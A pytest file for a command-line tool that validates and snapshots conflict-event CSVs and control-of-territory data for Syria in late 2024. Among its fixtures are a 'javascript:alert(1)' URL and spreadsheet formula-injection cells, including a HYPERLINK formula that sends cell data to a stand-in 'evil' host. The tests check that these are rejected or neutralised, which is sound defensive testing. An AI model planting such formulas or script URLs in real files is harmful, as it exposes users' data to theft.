"""The command line: validate's exit codes and report, snapshot's layers and formats."""

from __future__ import annotations

import io
import json
from contextlib import redirect_stderr, redirect_stdout

import pandas as pd
import pytest

from dashboard.__main__ import main
from tests.conftest import FIXTURES, HEADER, REPO


def run(*argv):
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


def test_validate_bundled_events_exits_0():
    code, out, _ = run("validate", str(REPO / "events.csv"))
    assert code == 0
    assert "format: native" in out and "rejected: 0" in out


def test_validate_broken_exits_1_and_lists_every_rejected_row():
    code, out, _ = run("validate", str(FIXTURES / "broken.csv"))
    assert code == 1
    assert "rows read: 17" in out and "accepted: 4" in out and "rejected: 13" in out
    assert "line 3, column date: unparseable date" in out
    assert "line 9, column place: unknown place with no lat/lon" in out


def test_validate_json_has_the_documented_keys():
    code, out, _ = run("validate", "--json", str(FIXTURES / "broken.csv"))
    report = json.loads(out)
    assert code == 1
    assert (report["format"], report["rows"], report["accepted"]) == ("native", 17, 4)
    assert {"line": 13, "column": "url", "value": "javascript:alert(1)"}.items() <= report["rejected"][9].items()


@pytest.mark.parametrize("data", [b"", b"\x00\x01binary", b"no,header,we,know\n1,2,3,4\n"])
def test_validate_unusable_exits_2_with_one_message(tmp_path, data):
    path = tmp_path / "bad.csv"
    path.write_bytes(data)
    code, out, err = run("validate", str(path))
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and "unusable" in err and "Traceback" not in err
    code, out, _ = run("validate", "--json", str(path))
    assert code == 2 and json.loads(out)["format"] is None


def test_snapshot_control_layer_shows_who_holds_each_place():
    code, out, _ = run("snapshot", "--date", "2024-12-05", "--layer", "control")
    held = pd.read_csv(io.StringIO(out), keep_default_na=False).set_index("place")
    assert code == 0
    assert {"place", "controller"} <= set(held.reset_index().columns)
    assert held.loc["Hama", "controller"] == "opposition"
    assert held.loc["Homs", "controller"] == "government"


def test_snapshot_events_layer_is_what_the_map_shows_that_day():
    _, out, _ = run("snapshot", "--date", "2024-11-29", "--events", str(REPO / "events.csv"))
    shown = pd.read_csv(io.StringIO(out), keep_default_na=False)
    everything = pd.read_csv(REPO / "events.csv", keep_default_na=False)
    assert len(shown) == (everything["date"] <= "2024-11-29").sum()
    assert shown["date"].max() <= "2024-11-29"


def test_snapshot_window_and_geojson():
    _, out, _ = run("snapshot", "--date", "2024-12-08", "--mode", "window", "--window", "1", "--format", "geojson")
    collection = json.loads(out)
    assert collection["type"] == "FeatureCollection"
    assert {f["properties"]["date"] for f in collection["features"]} == {"2024-12-08"}


def test_snapshot_rejects_a_bad_date():
    with pytest.raises(SystemExit) as exit_info, redirect_stderr(io.StringIO()):
        main(["snapshot", "--date", "5 Dec"])
    assert exit_info.value.code == 2


def test_snapshot_csv_neutralises_formula_cells_and_leaves_numbers_alone(tmp_path):
    path = tmp_path / "events.csv"
    row = 'a1,2024-12-01,Hill 7,35.5,-0.25,clash,=cmd(),"@x",,-AFP,,,,"=HYPERLINK(""http://evil/?""&A1,""x"")",,+1+2'
    path.write_text(HEADER + "\n" + row + "\n", encoding="utf-8")
    code, out, _ = run("snapshot", "--date", "2024-12-01", "--events", str(path))
    shown = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).iloc[0]
    assert code == 0
    assert (shown["actor"], shown["target"], shown["source"], shown["via"]) == ("'=cmd()", "'@x", "'-AFP", "'+1+2")
    assert shown["description"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    assert (shown["lat"], shown["lon"], shown["controller"]) == ("35.5", "-0.25", "")


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path):
    """Found in review: the app refused a file over max_file_mb, but the command line read it whole."""
    path = tmp_path / "big.csv"
    path.write_text(HEADER + "\n" + "e{n},2024-12-01,Hama,,,clash,,,,R,,,,,,\n" * 1 + "x" * 1_500_000)
    for command in (["validate", str(path)], ["snapshot", "--date", "2024-12-01", "--events", str(path)]):
        code, out, err = run("--max-file-mb", "1", *command)
        assert code == 2 and "more than this server reads (1 MB" in out + err
    code, _, _ = run("--max-file-mb", "2", "validate", str(path))
    assert code != 2


def test_snapshot_control_says_the_basis_and_the_sources_of_each_place():
    code, out, _ = run("snapshot", "--date", "2024-12-09", "--layer", "control")
    held = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).set_index("place")
    assert code == 0 and list(held.columns[:3]) == ["controller", "basis", "sources"]
    assert set(held["basis"]) <= {"claimed", "baseline", "contested"}
    assert held.loc["Douma", ["controller", "basis", "sources"]].tolist() == ["government", "baseline", ""]
    assert held.loc["Hama", "basis"] == "claimed" and "Reuters; AFP" in held.loc["Hama", "sources"]


def test_snapshot_control_as_one_affiliation_claims_it_has_no_baseline():
    code, out, _ = run("snapshot", "--date", "2024-12-02", "--layer", "control", "--affiliation", "Ukrainian state")
    held = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).set_index("place")
    assert code == 0 and held["basis"].eq("no claim").all() and held["controller"].eq("").all()
    code, out, _ = run("snapshot", "--date", "2024-12-02", "--layer", "control", "--source", "Reuters")
    held = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).set_index("place")
    assert held.loc["Aleppo", ["controller", "basis", "sources"]].tolist() == ["opposition", "claimed", "Reuters"]
    assert held.loc["Homs", "basis"] == "no claim"


def test_history_lists_the_changes_then_the_claims():
    code, out, _ = run("history", "--place", "Hamah")
    changes, claims = out.split("\n\n")
    moved = pd.read_csv(io.StringIO(changes), dtype=str, keep_default_na=False)
    assert code == 0 and moved[["date", "from", "to"]].values.tolist() == [["2024-12-05", "government", "opposition"]]
    assert "Reuters" in moved.loc[0, "sources"] and "AFP" in moved.loc[0, "sources"]
    listed = pd.read_csv(io.StringIO(claims), dtype=str, keep_default_na=False)
    assert listed["date"].is_monotonic_increasing and len(listed) >= 5
    code, out, _ = run("history", "--place", "Hama", "--format", "json")
    report = json.loads(out)
    assert report["place"] == "Hama" and report["changes"][0]["to"] == "opposition" and report["claims"]


def test_diff_lists_the_places_that_changed_hands():
    code, out, _ = run("diff", "--from", "2024-12-05", "--to", "2024-12-08")
    moved = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).set_index("place")
    assert code == 0 and list(moved.reset_index().columns) == ["place", "from", "to", "date", "sources"]
    assert moved.loc["Homs", ["from", "to", "date"]].tolist() == ["government", "opposition", "2024-12-08"]
    assert "Hama" not in moved.index  # it fell on the 5th: no change between the two days
    code, out, _ = run("diff", "--from", "2024-12-05", "--to", "2024-12-08", "--format", "json")
    assert {"place": "Damascus", "from": "government", "to": "opposition"}.items() <= next(
        r for r in json.loads(out) if r["place"] == "Damascus"
    ).items()


@pytest.mark.parametrize(
    "argv, named",
    [
        (("history", "--place", "Atlantis"), "'Atlantis'"),
        (("diff", "--from", "2024-12-05", "--to", "2025-03-01"), "2025-03-01"),
        (("diff", "--from", "2020-01-01", "--to", "2024-12-05"), "2020-01-01"),
        (("snapshot", "--date", "2024-12-05", "--layer", "control", "--source", "Nobody"), "'Nobody'"),
    ],
)
def test_an_unknown_place_day_or_source_is_named_with_exit_2(argv, named):
    code, out, err = run(*argv)
    assert code == 2 and out == "" and named in err and "Traceback" not in err


def snapshot_events(*argv: str) -> tuple[int, pd.DataFrame, str]:
    code, out, err = run("snapshot", "--date", "2024-12-09", *argv)
    return code, (pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False) if out else pd.DataFrame()), err


def test_snapshot_events_by_source_and_affiliation_as_the_page_filters(bundled):
    code, shown, _ = snapshot_events("--source", "Reuters", "--source", "AP")
    assert code == 0 and sorted(shown["event_id"]) == sorted(
        bundled.loc[bundled["source"].isin(["Reuters", "AP"]), "event_id"]
    )
    code, shown, _ = snapshot_events("--affiliation", "Russian state", "--affiliation", "Ukrainian state")
    wanted = bundled["affiliation"].isin(["Russian state", "Ukrainian state"])
    assert code == 0 and len(shown) == int(wanted.sum())
    # Both: the claims that match both filters, as the page's two filters together.
    code, shown, _ = snapshot_events("--affiliation", "Russian state", "--source", "TASS")
    assert code == 0 and shown["source"].tolist() == ["TASS"]


def test_snapshot_takes_a_registry_alias_for_the_files_own_name_of_a_source(bundled):
    code, shown, _ = snapshot_events("--source", "GUR")
    gur = "Ukraine's Main Intelligence Directorate (GUR)"
    assert code == 0 and len(shown) == int(bundled["source"].eq(gur).sum()) == 10


def test_snapshot_search_and_place(bundled, loaded):
    code, shown, _ = snapshot_events("--search", "KHMEIMIM")
    text = bundled[["description", "place", "actor", "target", "source", "affiliation"]].agg(" ".join, axis=1)
    assert code == 0 and len(shown) == int(text.str.casefold().str.contains("khmeimim").sum()) > 0
    code, near, _ = snapshot_events("--place", "حماة", "--radius-km", "2")
    assert code == 0 and set(near["place"]) == {"Hama"} and len(near) == int(loaded["gazetteer_place"].eq("Hama").sum())
    code, wide, _ = snapshot_events("--place", "Hama")  # 25 km by default: Hama's airport and the villages too
    assert code == 0 and len(wide) > len(near)
    code, idlib, _ = snapshot_events("--place", "Idlib province")
    assert (
        code == 0
        and len(idlib)
        and set(idlib["gazetteer_place"]) <= set(loaded.loc[loaded["place"].isin(idlib["place"]), "gazetteer_place"])
    )


@pytest.mark.parametrize(
    "argv, named",
    [
        (("--place", "Atlantis"), "'Atlantis'"),
        (("--radius-km", "10"), "--radius-km needs --place"),
        (("--place", "Hama", "--radius-km", "9000"), "9000"),
        (("--affiliation", "Martian state"), "'Martian state'"),
        (("--layer", "control", "--search", "Hama"), "control follows --source and --affiliation"),
    ],
)
def test_a_bad_search_place_or_affiliation_is_named_with_exit_2(argv, named):
    code, out, err = run("snapshot", "--date", "2024-12-09", *argv)
    assert code == 2 and out == "" and named in err and "Traceback" not in err


def test_sources_lists_each_outlet_with_its_type_affiliation_origin_and_claims(bundled):
    code, out, _ = run("sources")
    table = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).set_index("source")
    assert code == 0 and list(table.reset_index().columns) == [
        "source",
        "source_type",
        "affiliation",
        "origin",
        "claims",
        "basis",
    ]
    assert table["claims"].astype(int).sum() == len(bundled)
    assert table.loc["RIA Novosti", ["source_type", "affiliation", "origin"]].tolist() == [
        "state media",
        "Russian state",
        "file",
    ]
    assert table.loc["RIA Novosti", "basis"].startswith("state-owned news agency of Russia")


def test_sources_of_an_acled_file_come_from_the_registry_and_count_outlets():
    code, out, _ = run("sources", "--events", str(REPO / "tests" / "fixtures" / "acled_syria.csv"), "--format", "json")
    table = {row["source"]: row for row in json.loads(out)}
    assert code == 0 and set(table) == {"SOHR", "Reuters", "SANA"}
    assert table["SANA"]["source_type"] == "state media" and table["SANA"]["affiliation"] == "Syrian government"
    assert {row["origin"] for row in table.values()} == {"registry"}
    # Seven events load (line 9 is rejected), one naming Reuters and SOHR: eight claims by outlet.
    assert sum(row["claims"] for row in table.values()) == 8
